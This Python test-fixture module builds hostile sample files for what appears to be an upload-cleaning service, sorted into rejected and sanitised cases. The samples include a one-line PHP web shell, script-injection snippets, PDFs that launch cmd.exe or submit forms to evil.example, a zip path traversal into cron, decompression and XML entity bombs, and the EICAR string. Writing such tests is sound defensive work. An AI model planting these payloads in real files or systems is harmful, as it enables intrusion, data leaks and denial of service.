"""Files as people and machines send them: letters and photographs, and the nastiest ones. All made here."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import cache

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String
from PIL import Image

PHP = b"<?php system($_GET['c']); ?>"
VOICE = b"\x1aE\xdf\xa3\x9fB\x86\x81\x01B\xf7\x81\x01B\xf2\x81\x04B\xf3\x81\x08B\x82\x84webm"  # how a WebM begins
SCRIPT = b"<html><script>alert(1)</script></html>"
HIDDEN = b"Veilig huis, Dorpsstraat 1"  # what must not come out again
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
GPS, MAKER, TURNED = 0x8825, 0x010F, 0x0112
HELD_UPRIGHT = 6  # the camera was held upright: turn it a quarter

Make = Callable[[], bytes]


def picture(wide: int = 64, high: int = 48, colour: str = "navy", mode: str = "RGB") -> Image.Image:
    """With a corner of another colour, so that one sees which side is up."""
    found = Image.new("RGB", (wide, high), colour)
    found.paste(Image.new("RGB", (wide // 4, high // 4), "yellow"), (0, 0))
    return found.convert(mode)


def saved(found: Image.Image, kind: str, **how: object) -> bytes:
    out = io.BytesIO()
    found.save(out, kind, **how)
    return out.getvalue()


def jpg(**how: object) -> bytes:
    return saved(picture(), "JPEG", **how)


def png(**how: object) -> bytes:
    return saved(picture(), "PNG", **how)


def webp(**how: object) -> bytes:
    return saved(picture(), "WEBP", **how)


def pdf(pages: int = 1, change: Callable[[Pdf], object] = lambda _: None, **how: object) -> bytes:
    """A few pages, with something done to it before it is written."""
    made = Pdf.new()
    for number in range(pages):
        made.add_blank_page(page_size=(595, 842))
        made.pages[-1].Contents = made.make_stream(b"BT 50 700 Td (bladzijde %d) Tj ET" % number)
    change(made)
    out = io.BytesIO()
    made.save(out, **how)
    return out.getvalue()


# --- photographs --------------------------------------------------------------------------------------


def told_by_a_camera() -> Image.Exif:
    """Where and with what it was taken, and how the camera was held."""
    exif = Image.Exif()
    exif[MAKER], exif[TURNED] = HIDDEN.decode(), HELD_UPRIGHT
    exif[GPS] = {1: "N", 2: (52.0, 3.0, 12.3), 3: "E", 4: (4.0, 29.0, 1.0)}
    return exif


def photo() -> bytes:
    """As a telephone sends it: place, maker, comment, colour profile, and held upright."""
    return jpg(
        exif=told_by_a_camera(),
        comment=HIDDEN,
        icc_profile=HIDDEN * 20,
        xmp=b"<x:xmpmeta>" + HIDDEN + b"</x:xmpmeta>",
        quality=90,
    )


def talking_png() -> bytes:
    from PIL.PngImagePlugin import PngInfo

    told = PngInfo()
    told.add_text("Comment", HIDDEN.decode())
    told.add_itxt("XML:com.adobe.xmp", HIDDEN.decode())
    return png(pnginfo=told, exif=told_by_a_camera(), icc_profile=HIDDEN * 20)


def talking_webp() -> bytes:
    return webp(exif=told_by_a_camera(), xmp=HIDDEN, icc_profile=HIDDEN * 20)


def chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def png_that_says(wide: int, high: int, *more: bytes) -> bytes:
    """A PNG that says it is this large, and holds hardly a dot."""
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", wide, high, 8, 2, 0, 0, 0))
    return (
        b"\x89PNG\r\n\x1a\n" + head + b"".join(more) + chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b"")
    )


@cache
def moving(kind: str, frames: int) -> bytes:
    first, *others = [Image.new("L", (2, 2), number % 256) for number in range(frames)]
    return saved(first, kind, save_all=True, append_images=others, duration=1, loop=0)


def jpg_with(segment: int, content: bytes) -> bytes:
    """A JPEG with something in a segment of its own, right after its beginning."""
    whole = jpg()
    return whole[:2] + bytes([0xFF, segment]) + (len(content) + 2).to_bytes(2, "big") + content + whole[2:]


# --- PDFs -------------------------------------------------------------------------------------------


def _root(key: str, value: Callable[[Pdf], object]) -> Callable[[Pdf], None]:
    def change(made: Pdf) -> None:
        made.Root[key] = value(made)

    return change


def holding(key: str, content: bytes) -> Callable[[Pdf], None]:
    """With something in it that no page shows."""
    return _root(key, lambda made: made.make_stream(content))


@cache
def letter(word: str) -> bytes:
    """A page with this word in it, for who looks at the file."""
    return pdf(1, holding("/Word", word.encode()), compress_streams=False)


def _script(_: Pdf) -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def _launch(_: Pdf) -> Dictionary:
    return Dictionary(S=Name.Launch, F=String("cmd.exe"))


def _on_page(made: Pdf) -> None:
    made.pages[0].AA = Dictionary(O=_script(made))


def _on_link(action: Dictionary) -> Callable[[Pdf], None]:
    def change(made: Pdf) -> None:
        link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action)
        made.pages[0].Annots = Array([made.make_indirect(link)])

    return change


def _attached(made: Pdf) -> None:
    made.attachments["factuur.exe"] = b"MZ"


def _pinned(made: Pdf) -> None:
    pin = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9]))
    made.pages[0].Annots = Array([made.make_indirect(pin)])


def _fetched(made: Pdf) -> None:
    made.Root.Far = made.make_stream(b"", F=String("/etc/passwd"))


def _forgotten(made: Pdf) -> None:
    """A script that no page uses any more: as an earlier version of the same file leaves it behind."""
    made.Root.Old = made.make_indirect(_script(made))


def _deep(made: Pdf) -> None:
    inner = Array([])
    for _ in range(300):
        inner = Array([inner])
    made.Root.Deep = inner


def _kept_photo(around: bool) -> Callable[[Pdf], None]:
    """A photograph on the page, as a telephone puts it in a scan."""

    def change(made: Pdf) -> None:
        raw = photo()
        image = Stream(made, zlib.compress(raw) if around else raw)
        image.Type, image.Subtype, image.Width, image.Height = Name.XObject, Name.Image, 64, 48
        image.ColorSpace, image.BitsPerComponent = Name.DeviceRGB, 8
        image.Filter = Array([Name.FlateDecode, Name.DCTDecode]) if around else Name.DCTDecode
        image.Metadata = made.make_stream(HIDDEN)
        made.pages[0].Resources = Dictionary(XObject=Dictionary(Im0=image))

    return change


def _talking(made: Pdf) -> None:
    made.docinfo["/Author"] = HIDDEN.decode()
    made.docinfo["/Title"] = HIDDEN.decode()
    with made.open_metadata() as told:
        told["dc:creator"] = [HIDDEN.decode()]
    made.pages[0].PieceInfo = Dictionary(Maker=Dictionary(Private=String(HIDDEN.decode())))
    made.Root.OpenAction = Array([made.pages[0].obj, Name.Fit])


def talking_pdf() -> bytes:
    return pdf(2, _talking)


def scanned_pdf(*, around: bool = False) -> bytes:
    return pdf(1, _kept_photo(around))


def pdf_with_a_bomb() -> bytes:
    """Its table of contents unpacks to half a gigabyte."""
    table = zlib.compress(b"\0" * 500_000_000, 9)
    head = b"%PDF-1.5\n"
    entry = (
        b"1 0 obj\n<</Type/XRef/Size 2/W[1 2 1]/Root 1 0 R/Filter/FlateDecode/Length %d>>stream\n" % len(table)
        + table
        + b"\nendstream\nendobj\n"
    )
    return head + entry + b"startxref\n%d\n%%%%EOF" % len(head)


def _nested_streams(made: Pdf) -> None:
    bomb = zlib.compress(b"0 " * 100_000_000, 9)
    made.Root.Bomb = Stream(made, bomb)
    made.Root.Bomb.Filter = Name.FlateDecode


# --- archives -----------------------------------------------------------------------------------------


def archive(*files: tuple[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in files:
            made.writestr(name, content)
    return out.getvalue()


def letter_of_word() -> bytes:
    """A docx of which the words grow to gigabytes when they are read."""
    laughs = "".join(f'<!ENTITY l{number} "{f"&l{number - 1};" * 10}">' for number in range(1, 10))
    words = f'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY l0 "ha">{laughs}]><w>&l9;</w>'.encode()
    return archive(("[Content_Types].xml", b"<Types/>"), ("word/document.xml", words))


PDFS_THAT_ACT: dict[str, Make] = {
    "a script when it opens": lambda: pdf(1, _root("/OpenAction", _script)),
    "a script by name": lambda: pdf(1, _root("/Names", lambda m: Dictionary(JavaScript=Dictionary(Names=Array([]))))),
    "a script on a page": lambda: pdf(1, _on_page),
    "a script in a link": lambda: pdf(1, _on_link(Dictionary(S=Name.JavaScript, JS=String("1")))),
    "a script that is an address": lambda: pdf(1, _on_link(Dictionary(S=Name.URI, URI=String(" JavaScript:alert(1)")))),
    "a link to a file elsewhere": lambda: pdf(1, _on_link(Dictionary(S=Name.URI, URI=String(r"\\evil\x")))),
    "another file to jump to": lambda: pdf(1, _on_link(Dictionary(S=Name.GoToR, F=String(r"\\evil\x")))),
    "a script left behind": lambda: pdf(1, _forgotten),
    "a program to start": lambda: pdf(1, _root("/OpenAction", _launch)),
    "a form that sends itself": lambda: pdf(
        1, _on_link(Dictionary(S=Name.SubmitForm, F=String("https://evil.example")))
    ),
    "a form of another maker": lambda: pdf(1, _root("/AcroForm", lambda m: Dictionary(XFA=m.make_stream(b"<xdp/>")))),
}
PDFS_WITH_FILES: dict[str, Make] = {
    "a stream that lies in another file": lambda: pdf(1, _fetched),
    "a file inside": lambda: pdf(1, _attached),
    "a file pinned on a page": lambda: pdf(1, _pinned),
    "another PDF to open": lambda: pdf(1, _on_link(Dictionary(S=Name.GoToE))),
}
REFUSED: dict[str, tuple[Make, str]] = {
    "nothing": (lambda: b"", "leeg"),
    "words": (lambda: b"Beste Sem,", "soort bestand"),
    "a page of the web": (lambda: SCRIPT, "soort bestand"),
    "a drawing that is a program": (
        lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        "soort bestand",
    ),
    "a GIF that is a script": (lambda: b"GIF89a/*\x00\x00*/=1;alert(1);", "soort bestand"),
    "a program": (lambda: b"MZ\x90\x00\x03" + bytes(60), "soort bestand"),
    "an archive": (lambda: b"PK\x03\x04" + bytes(60), "soort bestand"),
    "a letter of Word that grows": (letter_of_word, "soort bestand"),
    "a sheet with a macro": (lambda: archive(("xl/vbaProject.bin", b"Auto_Open")), "soort bestand"),
    "an archive with a way out": (lambda: archive(("../../etc/cron.d/x", b"* * * * *")), "soort bestand"),
    "an archive that is a bomb": (lambda: archive(("0", bytes(50_000_000))), "soort bestand"),
    "a virus in an archive in an archive": (
        lambda: archive(("in.zip", archive(("eicar.com", EICAR)))),
        "soort bestand",
    ),
    "a virus that everybody knows": (lambda: EICAR, "soort bestand"),
    "a PDF after a page of the web": (lambda: SCRIPT + pdf(), "soort bestand"),
    "a photo of an iPhone": (lambda: b"\0\0\0\x18ftypheic" + bytes(60), "HEIC"),
    "a PNG that moves": (lambda: moving("PNG", 40), "beweegt"),
    "a WebP that moves": (lambda: moving("WEBP", 40), "beweegt"),
    "a flood of dots": (lambda: png_that_says(50_000, 50_000), "te groot om te openen"),
    "a photo that ends halfway": (lambda: jpg()[: len(jpg()) // 2], "niet heel"),
    "a PNG that ends halfway": (lambda: png()[:60], "niet heel"),
    "a WebP that ends halfway": (lambda: webp()[:40], "niet heel"),
    "the first letters of a photo": (lambda: b"\xff\xd8\xff\xe0", "niet heel"),
    "a PNG with a bomb in its words": (
        lambda: png_that_says(9, 9, chunk(b"zTXt", b"k\0\0" + zlib.compress(b"A" * 200_000_000, 9))),
        "niet heel",
    ),
    "a PDF that ends halfway": (lambda: pdf(3)[:300], "niet heel"),
    "a PDF that is only its first line": (lambda: b"%PDF-1.7\n", "niet heel"),
    "a PDF with a lock": (lambda: pdf(1, encryption=pikepdf.Encryption(owner="b", user="a")), "wachtwoord"),
    "a PDF of a whole book": (lambda: pdf(201), "bladzijden"),
    "a PDF nested very deep": (lambda: pdf(1, _deep), "niet heel"),
    "a PDF without a page": (lambda: pdf(0), "niet heel"),
    "a PDF with a bomb as its table": (pdf_with_a_bomb, "niet heel"),
    **{name: (make, "programma") for name, make in PDFS_THAT_ACT.items()},
    **{name: (make, "ander bestand") for name, make in PDFS_WITH_FILES.items()},
}
# They come in, and out comes nothing but a picture or pages.
TAMED: dict[str, tuple[Make, str]] = {
    "a photo with its place": (photo, "jpg"),
    "a photo with PHP in its comment": (lambda: jpg_with(0xFE, PHP), "jpg"),
    "a photo with PHP in a segment of a camera": (lambda: jpg_with(0xE5, PHP), "jpg"),
    "a photo with a page of the web behind it": (lambda: jpg() + SCRIPT, "jpg"),
    "a photo with an archive behind it": (lambda: jpg() + b"PK\x03\x04" + PHP, "jpg"),
    "two photos in one": (lambda: saved(picture(), "MPO", save_all=True, append_images=[picture(colour="red")]), "jpg"),
    "a PNG with its place": (talking_png, "png"),
    "a PNG with a page of the web behind it": (lambda: png() + SCRIPT, "png"),
    "a PNG one can see through": (lambda: saved(picture(mode="RGBA"), "PNG"), "png"),
    "a PNG of few colours": (lambda: saved(picture(mode="P"), "PNG"), "png"),
    "a PNG of black and white": (lambda: saved(picture(mode="1"), "PNG"), "png"),
    "a WebP with its place": (talking_webp, "jpg"),
    "a photo for a printer": (lambda: saved(picture(mode="CMYK"), "JPEG"), "jpg"),
    "a PDF with a link": (lambda: pdf(1, _on_link(Dictionary(S=Name.URI, URI=String("https://duo.nl")))), "pdf"),
    "a PDF that tells of its maker": (talking_pdf, "pdf"),
    "a PDF with a photo": (scanned_pdf, "pdf"),
    "a PDF with a photo in a parcel": (lambda: scanned_pdf(around=True), "pdf"),
    "a PDF with a page of the web in it": (
        lambda: pdf(1, holding("/Web", SCRIPT), compress_streams=False),
        "pdf",
    ),
    "a PDF with PHP behind its end": (lambda: pdf() + PHP, "pdf"),
    "a PDF that only its maker may change": (lambda: pdf(1, encryption=pikepdf.Encryption(owner="b", user="")), "pdf"),
    "a PDF with a stream that is a bomb": (lambda: pdf(1, _nested_streams), "pdf"),
}
